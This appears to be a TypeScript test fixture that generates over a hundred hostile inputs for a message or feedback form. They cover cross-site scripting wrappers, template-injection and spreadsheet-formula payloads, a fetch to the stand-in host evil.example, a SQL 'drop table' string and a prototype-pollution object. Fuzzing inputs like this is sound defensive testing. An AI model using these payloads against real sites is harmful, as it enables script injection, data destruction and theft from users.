const scripts = ['alert(1)', 'window.__ran=1', 'document.title="ran"', 'fetch("//evil.example")', 'top.__ran=1'];

/** Ways to make a page run what a visitor wrote. `__ran` is what a browser would show if one of them worked. */
const wrappers: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt>${script}</sCrIpT>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</style><script>${script}</script>`,
  (script) => `--><script>${script}</script><!--`,
  (script) => `<img src=x onerror='${script}'>`,
  (script) => `<svg onload='${script}'>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<a href="javascript:${script}">click</a>`,
  (script) => `<details open ontoggle='${script}'>`,
  (script) => `<input autofocus onfocus='${script}'>`,
  (script) => `<math><mtext></mtext><script>${script}</script></math>`,
  (script) => `\u003cscript\u003e${script}\u003c/script\u003e`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `=cmd|'/c calc'!A1 ${script}`,
];

const odd = [
  `'; drop table feedback; --`,
  `{"__proto__":{"polluted":true}}`,
  `\u202Eevil\u202C`,
  `line one\nline two\ttabbed`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
];

/** More than a hundred of them, all valid messages. */
export const injections: readonly string[] = [
  ...scripts.flatMap((script) => wrappers.map((wrap) => wrap(script))),
  ...odd,
];
